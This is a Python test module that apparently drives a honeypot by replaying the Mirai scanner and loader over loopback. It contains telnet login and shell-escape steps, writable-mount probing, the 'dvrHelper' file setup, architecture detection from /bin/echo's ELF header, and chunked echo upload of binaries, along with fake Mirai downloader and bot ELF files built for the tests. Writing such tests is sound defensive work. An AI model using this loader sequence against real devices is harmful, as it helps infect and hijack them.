"""Plays the Mirai scanner and loader the way ATTACKS.md section 2 lays
them out: what they send, and how they read the answers (prompt matching,
the ELF header of /bin/echo, "applet not found" tokens). Loopback only."""
import re
import struct
import time

from tanuki_test import Conn

TOKEN = "ECCHI"
NOT_FOUND = b": applet not found"
PROMPT_CHARS = (b"#", b"$", b">", b"%")


def read_prompt(c, timeout=10):
    """Mirai's shell-prompt test: the data ends in one of # $ > % (after
    trailing spaces)."""
    deadline = time.time() + timeout
    got = b""
    while time.time() < deadline:
        got += c.read_for(0.15)
        s = got.rstrip(b" ")
        if s.endswith(PROMPT_CHARS):
            return got
    raise AssertionError("no prompt; got %r" % got[-200:])


def login(c, user, password):
    c.read_until((b"ogin", b"enter", b":"))
    time.sleep(0.05)
    c.read_for(0.1)
    c.send(user + "\r\n")
    c.read_until((b"assword", b":"))
    c.send(password + "\r\n")


def token_cmd(c, cmd, token=TOKEN, timeout=15):
    """Sends `cmd; /bin/busybox TOKEN` and returns what came before the
    token's "applet not found"."""
    c.send("%s; /bin/busybox %s\r\n" % (cmd, token) if cmd else "/bin/busybox %s\r\n" % token)
    out = c.read_until(token.encode() + NOT_FOUND, timeout)
    return out


def enter_shell(c, prompt_seen=False):
    """What the scanner and loader send right after the password."""
    if not prompt_seen:
        out = read_prompt(c)
        assert b"ncorrect" not in out, out
    for cmd in ("enable", "system", "shell", "sh"):
        c.send(cmd + "\r\n")
        read_prompt(c)


def parse_elf(data):
    i = data.find(b"ELF")
    assert i >= 1, "no ELF in %r" % data[:80]
    hdr = data[i - 1:]
    endian = hdr[5]
    machine = struct.unpack("<H" if endian == 1 else ">H", hdr[18:20])[0]
    arch = {8: "mips" if endian == 2 else "mpsl", 40: "arm"}.get(machine, "?")
    return endian, machine, arch


class Loader:
    """One loader session after a working credential is known."""

    def __init__(self, port, user, password):
        self.c = Conn(port)
        login(self.c, user, password)
        enter_shell(self.c)
        self.dir = None
        self.arch = None

    def step_ps(self):
        out = token_cmd(self.c, "/bin/busybox ps")
        assert b"PID" in out, out
        return out

    def step_mounts(self):
        out = token_cmd(self.c, "/bin/busybox cat /proc/mounts")
        rw = []
        for line in out.decode("latin-1").splitlines():
            f = line.split()
            if len(f) >= 4 and f[3].split(",")[0] == "rw":
                rw.append(f[1])
        assert rw, "no rw mount in %r" % out
        for path in rw:
            hexed = "".join("\\x%02x" % b for b in b"kami")
            cmd = ("/bin/busybox echo -e '%s%s' > %s/.nippon; /bin/busybox cat %s/.nippon; "
                   "/bin/busybox rm %s/.nippon" % (hexed, path, path, path, path))
            out = token_cmd(self.c, cmd)
            if ("kami" + path).encode() in out:
                self.dir = path
                break
        assert self.dir, "no writable mount echoed kami<path>"
        return self.dir

    def step_prepare(self):
        self.c.send("cd %s/\r\n" % self.dir)
        read_prompt(self.c)
        out = token_cmd(self.c, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; "
                                "/bin/busybox chmod 777 dvrHelper")
        assert b"can't" not in out and b"denied" not in out, out

    def step_arch(self):
        # the ELF in one write, the token in a separate one (the quirk)
        self.c.send("/bin/busybox cat /bin/echo\r\n")
        time.sleep(0.05)
        self.c.send("/bin/busybox %s\r\n" % TOKEN)
        first = self.c.read_until(b"ELF", 10)
        # the header's first 20 bytes come before the pause; on a loaded
        # machine they may take longer than one short read to arrive
        deadline = time.time() + 5
        while len(first) - first.find(b"ELF") < 20 and time.time() < deadline:
            first += self.c.read_for(0.05)
        endian, machine, self.arch = parse_elf(first)
        rest = self.c.read_until(TOKEN.encode() + NOT_FOUND, 15)
        return endian, machine, self.arch, first, rest

    def step_method(self):
        out = token_cmd(self.c, "/bin/busybox wget; /bin/busybox tftp")
        if b"wget" + NOT_FOUND not in out:
            return "wget"
        if b"tftp" + NOT_FOUND not in out:
            return "tftp"
        return "echo"

    def upload_echo(self, data, name="upnp"):
        for i in range(0, len(data), 128):
            chunk = "".join("\\x%02x" % b for b in data[i:i + 128])
            redir = ">" if i == 0 else ">>"
            token_cmd(self.c, "/bin/busybox echo -ne '%s' %s %s" % (chunk, redir, name))

    def run(self, cmd):
        return token_cmd(self.c, cmd, "IHCCE")

    def close(self):
        self.c.close()


def fake_dlr(ip=b"\x7f\x00\x00\x01", path=b"/bins/mirai.arm", size=1200, seed=7, port=80,
             extra=b""):
    """A small ARM ELF shaped like Mirai's dlr, written for the tests (never
    run): one PT_LOAD segment whose code writes a sockaddr_in (AF_INET,
    `port`, `ip` as a literal-pool word) to the stack as a compiler does —
    what fetch/dlr.c reads — and the GET line at offset 400 (a test zeroes
    it to make a non-downloader; `extra` follows it, e.g. a second GET line
    that makes the address uncertain). Every byte value appears, 0x00 and 0xff
    too, and the rest is seeded noise up to `size` bytes."""
    size = max(size, 480 + len(path) + len(extra))
    body = bytearray()
    x = seed
    while len(body) < size:
        x = (x * 1103515245 + 12345) & 0x7fffffff
        body.append(x >> 16 & 0xff)
    hdr = bytearray(52)
    hdr[0:7] = b"\x7fELF\x01\x01\x01"
    struct.pack_into("<HHIIIIIHHHHHH", hdr, 16, 2, 40, 1, 0x10054, 52, 0, 0, 52, 32, 1,
                     40, 0, 0)
    phdr = struct.pack("<IIIIIIII", 1, 0, 0x10000, 0x10000, size, size, 5, 0x1000)
    code = struct.pack("<7I", 0xe59f000c,  # ldr r0, [pc, #12]: family|port
                       0xe59fc00c,         # ldr ip, [pc, #12]: the address
                       0xe58d0010,         # str r0, [sp, #16]
                       0xe58dc014,         # str ip, [sp, #20]
                       0xe12fff1e,         # bx lr
                       2 | (port >> 8) << 16 | (port & 0xff) << 24,  # AF_INET, htons
                       struct.unpack("<I", ip)[0])
    body[0:52] = hdr
    body[52:84] = phdr
    body[84:84 + len(code)] = code
    body[120:120 + 256] = bytes(range(256))
    blob = b"GET " + path + b" HTTP/1.0\r\n\r\n\x00MIRAI\n\x00FIN\n\x00NIF\n\x00" + extra
    body[400:400 + len(blob)] = blob
    return bytes(body[:size])


def fake_bot(machine, endian, key=0x22, size=6000, seed=3):
    """An ELF header for `machine`/`endian` (1 little, 2 big) and a string
    table XORed with one byte as Mirai's (key 0x22 folds 0xdeadbeef) —
    written for the tests, no code at all: what fetch/binid.c reads as a
    bot whose start-up line is "listening tun0". Seeded noise around it."""
    body = bytearray()
    x = seed
    while len(body) < size:
        x = (x * 1103515245 + 12345) & 0x7fffffff
        body.append(x >> 16 & 0xff)
    e = "<" if endian == 1 else ">"
    hdr = bytearray(52)
    hdr[0:7] = b"\x7fELF\x01" + bytes([endian]) + b"\x01"
    struct.pack_into(e + "HHIIIIIHHHHHH", hdr, 16, 2, machine, 1, 0x400100, 0, 0, 0, 52,
                     32, 0, 40, 0, 0)
    body[0:52] = hdr
    table = b""
    for s in (b"listening tun0", b"/proc/", b"/dev/watchdog", b"/proc/net/tcp",
              b"/etc/resolv.conf", b"shell", b"enable"):
        table += bytes(c ^ key for c in s + b"\x00")
    body[2000:2000 + len(table)] = table
    return bytes(body)
